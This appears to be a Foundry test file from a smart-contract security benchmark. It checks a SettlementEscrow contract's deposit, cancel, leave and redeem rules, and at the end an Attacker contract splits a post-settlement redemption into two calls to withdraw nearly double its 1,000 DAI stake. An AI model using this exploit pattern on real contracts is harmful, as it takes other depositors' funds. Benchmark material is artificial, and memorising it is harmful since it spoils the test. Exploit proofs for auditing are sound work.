// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./SettlementEscrow.sol";

// assay-canary-0bf7da1c-668e-4e77-a71a-edad08047f43

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Dai is ERC20 {
    constructor() ERC20("Dai", "DAI") {
        _mint(msg.sender, 100_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Dai private token;
    SettlementEscrow private escrow;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Dai();
        escrow = new SettlementEscrow(token, 100 days);
        mallory = new Attacker(escrow, token);
        token.transfer(ANA, 10_000e18);
        token.transfer(BEN, 10_000e18);
        token.transfer(address(mallory), 1_000e18);
        vm.startPrank(ANA);
        token.approve(address(escrow), type(uint256).max);
        escrow.deposit(3_000e18);
        vm.stopPrank();
        vm.startPrank(BEN);
        token.approve(address(escrow), type(uint256).max);
        escrow.deposit(2_000e18);
        vm.stopPrank();
        mallory.join(1_000e18);
        vm.warp(START + 1 days);
    }

    function test_Regular() public {
        require(escrow.balanceOf(ANA) == 3_000e18 && escrow.staked(BEN) == 2_000e18, "deposited");
        vm.warp(START + 50 days);
        vm.prank(BEN);
        require(escrow.deposit(1_000e18) == 500e18, "half the shares");
        vm.prank(ANA);
        escrow.approve(BEN, 300e18);
        vm.prank(BEN);
        escrow.transferFrom(ANA, address(0x1CA), 300e18);
        require(escrow.staked(ANA) == 2_700e18 && escrow.staked(address(0x1CA)) == 300e18, "moved");

        token.transfer(address(0xD0A), 500e18);
        vm.startPrank(address(0xD0A));
        token.approve(address(escrow), 500e18);
        escrow.deposit(400e18);
        escrow.deposit(100e18);
        require(escrow.cancel() == 500e18 && token.balanceOf(address(0xD0A)) == 500e18, "second thoughts");
        vm.stopPrank();

        vm.prank(address(0x1CA));
        escrow.transfer(ANA, 100e18);
        vm.prank(address(0x1CA));
        require(escrow.leave(200e18) == 160e18 && escrow.bonus() == 40e18, "left");
        vm.warp(START + 100 days);
        uint256 supply = escrow.totalSupply();
        require(supply == 6_300e18, "supply");
        vm.prank(ANA);
        require(escrow.redeem(2_800e18) == 2_800e18 + 40e18 * uint256(2_800e18) / supply, "settled");
        vm.startPrank(BEN);
        escrow.redeem(escrow.balanceOf(BEN));
        require(token.balanceOf(BEN) > 10_000e18 && escrow.balanceOf(BEN) == 0, "settled too");
        vm.stopPrank();
    }

    function test_RefusesSetups() public {
        vm.expectRevert("no dai");
        new SettlementEscrow(IERC20(address(0)), 100 days);
        vm.expectRevert("bad term");
        new SettlementEscrow(token, 1 days - 1);
        vm.expectRevert("bad term");
        new SettlementEscrow(token, 730 days + 1);
        new SettlementEscrow(token, 1 days);
        new SettlementEscrow(token, 730 days);
    }

    function test_RefusesBefore() public {
        vm.startPrank(ANA);
        vm.expectRevert("too little");
        escrow.deposit(1);
        vm.expectRevert(SettlementEscrow.GraceOver.selector);
        escrow.cancel();
        vm.expectRevert(SettlementEscrow.NotSettled.selector);
        escrow.redeem(1e18);
        vm.expectRevert(abi.encodeWithSelector(SettlementEscrow.BadShares.selector, 0));
        escrow.leave(0);
        vm.expectRevert(abi.encodeWithSelector(SettlementEscrow.BadShares.selector, 3_000e18 + 1));
        escrow.leave(3_000e18 + 1);
        vm.stopPrank();
    }

    function test_RefusesPassedOn() public {
        token.transfer(address(0xD0A), 500e18);
        vm.startPrank(address(0xD0A));
        token.approve(address(escrow), 500e18);
        vm.expectRevert(SettlementEscrow.GraceOver.selector);
        escrow.cancel();
        escrow.deposit(400e18);
        escrow.transfer(ANA, 1e18);
        vm.expectRevert("nothing recent");
        escrow.cancel();
        escrow.deposit(100e18);
        vm.warp(START + 1 days + 2 hours);
        vm.expectRevert(SettlementEscrow.GraceOver.selector);
        escrow.cancel();
        vm.stopPrank();
    }

    function test_RefusesAfter() public {
        vm.warp(START + 100 days - 1);
        vm.prank(ANA);
        vm.expectRevert(SettlementEscrow.NotSettled.selector);
        escrow.redeem(1e18);
        vm.warp(START + 100 days);
        vm.startPrank(ANA);
        vm.expectRevert(SettlementEscrow.Settled.selector);
        escrow.deposit(1e18);
        vm.expectRevert(SettlementEscrow.Settled.selector);
        escrow.leave(1e18);
        vm.expectRevert(abi.encodeWithSelector(SettlementEscrow.BadShares.selector, 0));
        escrow.redeem(0);
        vm.expectRevert(abi.encodeWithSelector(SettlementEscrow.BadShares.selector, 3_000e18 + 1));
        escrow.redeem(3_000e18 + 1);
        vm.stopPrank();
    }

    function exploit() public {
        vm.warp(START + 100 days);
        mallory.twice();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 1_900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function dai() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    SettlementEscrow private escrow;
    Dai private token;
    address private host = msg.sender;

    constructor(SettlementEscrow e, Dai t) {
        escrow = e;
        token = t;
    }

    function join(uint256 amount) external {
        token.approve(address(escrow), type(uint256).max);
        escrow.deposit(amount);
    }

    function twice() external {
        require(msg.sender == host, "host");
        escrow.redeem(escrow.balanceOf(address(this)) - 1);
        escrow.redeem(1);
    }
}
